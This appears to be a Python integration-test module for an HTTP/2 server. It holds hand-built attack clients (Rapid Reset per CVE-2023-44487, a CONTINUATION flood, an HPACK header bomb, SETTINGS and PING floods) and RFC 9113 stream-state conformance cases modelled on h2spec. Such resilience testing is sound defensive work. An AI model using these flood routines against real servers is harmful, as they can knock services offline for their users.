"""Hostile HTTP/2 clients for the integration tests, written with the standard
library only: TLS with ALPN "h2", frames built by hand and a minimal HPACK encoder
(literal fields without Huffman coding, plus indexed references for header bombs).

Each attack returns an Outcome: whether the server answered with GOAWAY (and its error
code) or closed the connection, and how much of the attack it accepted."""

import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
NO_ERROR, PROTOCOL_ERROR, STREAM_CLOSED, REFUSED_STREAM, CANCEL, ENHANCE_YOUR_CALM = \
    0x0, 0x1, 0x5, 0x7, 0x8, 0xB
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3


# -- HPACK (RFC 7541) -------------------------------------------------------------------

def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def literal(name, value, index=False):
    """Literal field with a literal name: without indexing (0x00) or with incremental
    indexing (0x40), which puts it in the decoder's dynamic table at index 62."""
    return bytes([0x40 if index else 0x00]) + hpack_string(name) + hpack_string(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


def request_block(path="/", method="GET", authority="localhost", extra=()):
    block = b"".join(literal(n, v) for n, v in
                     ((":method", method), (":scheme", "https"), (":authority", authority),
                      (":path", path)))
    return block + b"".join(literal(n, v) for n, v in extra)


# -- frames -----------------------------------------------------------------------------

def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def rst_stream(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping(data=b"12345678"):
    return frame(PING, 0, 0, data)


class Outcome:
    def __init__(self):
        self.goaway = None       # GOAWAY error code, if one arrived
        self.closed = False      # the server closed the connection
        self.sent_bytes = 0
        self.send_failed = False  # the server stopped taking our bytes
        self.responses = 0       # HEADERS frames received (answers that were sent)
        self.resets = 0          # RST_STREAM frames received
        self.frames = []         # every frame received, as Frame

    def ended(self):
        return self.goaway is not None or self.closed

    def __repr__(self):
        return (f"<Outcome goaway={self.goaway} closed={self.closed} sent={self.sent_bytes} "
                f"send_failed={self.send_failed} responses={self.responses} resets={self.resets}>")


class Frame:
    def __init__(self, ftype, flags, stream_id, payload):
        self.type, self.flags, self.stream_id, self.payload = ftype, flags, stream_id, payload

    def code(self):
        """The error code of a GOAWAY or RST_STREAM."""
        at = 4 if self.type == GOAWAY else 0
        return struct.unpack(">I", self.payload[at:at + 4])[0]

    def __repr__(self):
        names = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
                 "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
        name = names[self.type] if self.type < len(names) else f"type {self.type}"
        extra = f" code={self.code()}" if self.type in (GOAWAY, RST_STREAM) else ""
        return f"<{name} stream={self.stream_id} flags={self.flags:#x}{extra}>"


class Connection:
    """An HTTP/2 connection that speaks only when told to."""

    def __init__(self, port, host="127.0.0.1", timeout=10.0):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=timeout)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise AssertionError(f"ALPN chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.outcome = Outcome()
        self._buf = b""
        self.send(PREFACE + settings())

    def send(self, data):
        try:
            self.sock.sendall(data)
            self.outcome.sent_bytes += len(data)
            return True
        except (OSError, ssl.SSLError):
            self.outcome.send_failed = True
            return False

    def read_until_end(self, timeout=10.0, enough=lambda outcome: False):
        """Reads frames until GOAWAY, EOF, enough(outcome) or `timeout`; acknowledges the
        server's SETTINGS."""
        deadline = time.monotonic() + timeout
        while not (self.outcome.ended() or enough(self.outcome)) and time.monotonic() < deadline:
            self.sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except (OSError, ssl.SSLError):
                self.outcome.closed = True
                break
            if not chunk:
                self.outcome.closed = True
                break
            self._buf += chunk
            self._parse()
        return self.outcome

    def _parse(self):
        while len(self._buf) >= 9:
            length = int.from_bytes(self._buf[0:3], "big")
            if len(self._buf) < 9 + length:
                return
            ftype, flags = self._buf[3], self._buf[4]
            stream_id = struct.unpack(">I", self._buf[5:9])[0] & 0x7FFFFFFF
            payload = self._buf[9:9 + length]
            self._buf = self._buf[9 + length:]
            self.outcome.frames.append(Frame(ftype, flags, stream_id, payload))
            if ftype == GOAWAY and len(payload) >= 8:
                self.outcome.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif ftype == HEADERS:
                self.outcome.responses += 1
            elif ftype == RST_STREAM:
                self.outcome.resets += 1

    def wait_for(self, predicate, timeout=5.0):
        """Reads until a received frame satisfies predicate(frame); returns it, or None
        when the connection ended or `timeout` passed first."""
        seen = 0

        def found(outcome):
            nonlocal seen
            for f in outcome.frames[seen:]:
                if predicate(f):
                    return True
            seen = len(outcome.frames)
            return False
        self.read_until_end(timeout, found)
        return next((f for f in self.outcome.frames if predicate(f)), None)

    def peer_setting(self, key, default=None):
        """A value from the server's SETTINGS (read so far)."""
        for f in self.outcome.frames:
            if f.type == SETTINGS and not f.flags & ACK:
                for i in range(0, len(f.payload) - 5, 6):
                    k, v = struct.unpack(">HI", f.payload[i:i + 6])
                    if k == key:
                        return v
        return default

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def _run(port, chunks, timeout, enough=lambda outcome: False):
    conn = Connection(port)
    try:
        for chunk in chunks:
            if not conn.send(chunk):
                break
        return conn.read_until_end(timeout, enough)
    finally:
        conn.close()


def rapid_reset(port, path, streams=5000, per_write=200, timeout=10.0):
    """HEADERS immediately followed by RST_STREAM, `streams` times (CVE-2023-44487)."""
    block = request_block(path)

    def chunks():
        sid = 1
        for _ in range(0, streams, per_write):
            out = bytearray()
            for _ in range(per_write):
                out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block) + rst_stream(sid)
                sid += 2
            yield bytes(out)
    return _run(port, chunks(), timeout)


def continuation_flood(port, frames=2000, frame_size=16000, timeout=10.0):
    """One HEADERS without END_HEADERS, then CONTINUATION frames that never end the
    block, each full of fresh header fields."""
    def chunks():
        yield frame(HEADERS, END_STREAM, 1, request_block("/"))
        for i in range(frames):
            field = literal(f"x-flood-{i}", "v" * (frame_size - 40))
            yield frame(CONTINUATION, 0, 1, field)
    return _run(port, chunks(), timeout)


def header_bomb(port, streams=50, value_size=3000, repeats=2000, timeout=10.0):
    """Requests whose header list is one large field indexed once and then referenced
    `repeats` times: tiny on the wire, megabytes once decoded (an HPACK bomb)."""
    def chunks():
        sid = 1
        for i in range(streams):
            block = request_block("/")
            if i == 0:
                block += literal("x-bomb", "b" * value_size, index=True)
            block += indexed(62) * repeats
            yield frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
            sid += 2
    return _run(port, chunks(), timeout, lambda o: o.resets + o.responses >= streams)


def settings_flood(port, frames=5000, timeout=10.0):
    flood = settings([(0x2, 0)]) * 100  # ENABLE_PUSH = 0, a hundred per write
    return _run(port, (flood for _ in range(frames // 100)), timeout)


def ping_flood(port, frames=5000, timeout=10.0):
    flood = ping() * 100
    return _run(port, (flood for _ in range(frames // 100)), timeout)


# -- stream states (RFC 9113 §5.1, §5.1.1, §5.1.2) ----------------------------------------
#
# Each case follows h2spec's http2/5.1 group (the same frames, in the same order, and the
# same verdict rules): it passes on a GOAWAY with an expected code, on an RST_STREAM with
# one when a stream error is allowed, or on the connection closing without a GOAWAY; a
# GOAWAY with another code, or silence, fails.

def _get(stream_id, path, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream_id, request_block(path))


def _data(stream_id, flags=END_STREAM):
    return frame(DATA, flags, stream_id, b"test")


def _continuation(stream_id, path):
    return frame(CONTINUATION, END_HEADERS, stream_id, literal("x-dummy", "1"))


def _window_update(stream_id, increment=100):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def error_verdict(conn, codes, stream_error, timeout=3.0):
    """(passed, what was seen), by the rule above."""
    def signal(f):
        return f.type == GOAWAY or (stream_error and f.type == RST_STREAM and f.code() in codes)
    f = conn.wait_for(signal, timeout)
    if f is None:
        if conn.outcome.closed:
            return True, "connection closed without GOAWAY"
        # A server that answered before the request ended resets the stream itself
        # (NO_ERROR); our frames then crossed its RST_STREAM, and RFC 9113 5.1 says it
        # MUST ignore them. h2spec would call this a failure; the RFC does not.
        if any(f.type == RST_STREAM and f.code() == NO_ERROR for f in conn.outcome.frames):
            return True, "ignored: the server had reset the stream itself (RFC 9113 5.1)"
        return False, f"no error within {timeout:g} s; frames {conn.outcome.frames[-6:]}"
    return f.code() in codes, repr(f)


def _stream_ended(conn, stream_id):
    """Waits for the response on stream_id to end (h2spec's VerifyStreamClose)."""
    f = conn.wait_for(lambda f: f.stream_id == stream_id and f.type in (DATA, HEADERS, RST_STREAM)
                      and (f.type == RST_STREAM or f.flags & END_STREAM))
    return f is not None


class Case:
    def __init__(self, section, desc, run):
        self.section, self.desc, self.run = section, desc, run

    @property
    def name(self):
        return f"{self.section} {self.desc}"


def _case(section, desc, codes, stream_error, *steps):
    """A case that sends `steps` in turn: bytes (a function of the path), or "wait N" to
    wait for stream N's response to end; then judges the error."""
    def run(conn, path):
        for step in steps:
            if isinstance(step, str):
                if not _stream_ended(conn, int(step.split()[1])):
                    return False, f"the response on {step.split()[1]} never ended: {conn.outcome}"
            else:
                conn.send(step(path))
        return error_verdict(conn, codes, stream_error)
    return Case(section, desc, run)


def _concurrency(conn, path):
    """5.1.2: one stream over SETTINGS_MAX_CONCURRENT_STREAMS is refused."""
    limit = conn.peer_setting(SETTINGS_MAX_CONCURRENT_STREAMS)
    if limit is None or limit > 1000:
        return True, f"no usable limit ({limit}): nothing to exceed"
    # Request heads without END_STREAM: every stream stays open (the bodies never come).
    conn.send(b"".join(_get(1 + 2 * i, path, END_HEADERS) for i in range(limit + 1)))
    return error_verdict(conn, (PROTOCOL_ERROR, REFUSED_STREAM), stream_error=True)


CLOSED = (STREAM_CLOSED,)
CLOSED_OR_PROTOCOL = (STREAM_CLOSED, PROTOCOL_ERROR)
STREAM_STATE_CASES = [
    _case("5.1/1", "idle: DATA", (PROTOCOL_ERROR,), False, lambda p: _data(1)),
    _case("5.1/2", "idle: RST_STREAM", (PROTOCOL_ERROR,), False, lambda p: rst_stream(1)),
    _case("5.1/3", "idle: WINDOW_UPDATE", (PROTOCOL_ERROR,), False, lambda p: _window_update(1)),
    _case("5.1/4", "idle: CONTINUATION", (PROTOCOL_ERROR,), False,
          lambda p: _continuation(1, p)),
    _case("5.1/5", "half-closed (remote): DATA", CLOSED, True,
          lambda p: _get(1, p), lambda p: _data(1)),
    _case("5.1/6", "half-closed (remote): HEADERS", CLOSED, True,
          lambda p: _get(1, p), lambda p: _get(1, p)),
    _case("5.1/7", "half-closed (remote): CONTINUATION", CLOSED_OR_PROTOCOL, True,
          lambda p: _get(1, p), lambda p: _continuation(1, p)),
    _case("5.1/8", "closed: DATA after RST_STREAM", CLOSED, True,
          lambda p: _get(1, p, END_HEADERS), lambda p: rst_stream(1), lambda p: _data(1)),
    _case("5.1/9", "closed: HEADERS after RST_STREAM", CLOSED, True,
          lambda p: _get(1, p, END_HEADERS), lambda p: rst_stream(1), lambda p: _get(1, p)),
    _case("5.1/10", "closed: CONTINUATION after RST_STREAM", CLOSED_OR_PROTOCOL, True,
          lambda p: _get(1, p, END_HEADERS), lambda p: rst_stream(1),
          lambda p: _continuation(1, p)),
    _case("5.1/11", "closed: DATA after both END_STREAMs", CLOSED, True,
          lambda p: _get(1, p), "wait 1", lambda p: _data(1)),
    _case("5.1/12", "closed: HEADERS after both END_STREAMs", CLOSED, True,
          lambda p: _get(1, p), "wait 1", lambda p: _get(1, p)),
    _case("5.1/13", "closed: CONTINUATION after both END_STREAMs", CLOSED_OR_PROTOCOL, True,
          lambda p: _get(1, p), "wait 1", lambda p: _continuation(1, p)),
    _case("5.1.1/1", "an even stream id", (PROTOCOL_ERROR,), False, lambda p: _get(2, p)),
    _case("5.1.1/2", "a stream id lower than one opened", (PROTOCOL_ERROR,), False,
          lambda p: _get(5, p), lambda p: _get(3, p)),
    _case("5.1.1/3", "a lower stream id after the higher one ended", (PROTOCOL_ERROR,), False,
          lambda p: _get(5, p), "wait 5", lambda p: _get(3, p)),
    Case("5.1.2/1", "more streams than SETTINGS_MAX_CONCURRENT_STREAMS", _concurrency),
]


def run_case(case, port, path, host="127.0.0.1"):
    """(passed, detail) of one case on a fresh connection."""
    conn = Connection(port, host=host)
    try:
        # h2spec's handshake: the server's SETTINGS first (acknowledged as it is read).
        if conn.wait_for(lambda f: f.type == SETTINGS and not f.flags & ACK) is None:
            return False, f"no SETTINGS from the server: {conn.outcome}"
        return case.run(conn, path)
    except (OSError, ssl.SSLError) as e:
        return False, f"{type(e).__name__}: {e}"
    finally:
        conn.close()
